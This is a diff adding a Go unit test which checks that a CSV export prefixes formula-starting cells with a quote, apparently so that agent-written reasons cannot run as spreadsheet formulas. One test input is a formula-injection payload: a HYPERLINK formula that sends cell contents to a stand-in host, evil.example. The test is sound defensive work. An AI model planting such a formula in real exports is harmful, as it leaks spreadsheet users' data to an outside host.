@@ -1,0 +1,30 @@
+package store
+
+import (
+	"testing"
+)
+
+// Agents write reasons, arguments and ids; a CSV export must never hand a
+// spreadsheet a formula (SPEC §6).
+func TestCSVCellsNeverStartAFormula(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{`=HYPERLINK("https://evil.example/?x="&A2,"open details")`, `'=HYPERLINK("https://evil.example/?x="&A2,"open details")`},
+		{"+1+1", "'+1+1"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"plain reason", "plain reason"},
+		{"", ""},
+	} {
+		row := Row{Reason: tc.in, Agent: tc.in}
+		cells := CSVRecord(row)
+		for i, c := range cells {
+			if i == 4 || i == 14 { // agent, reason
+				if c != tc.want {
+					t.Errorf("cell %d of %q is %q, want %q", i, tc.in, c, tc.want)
+				}
+			}
+		}
+	}
+}
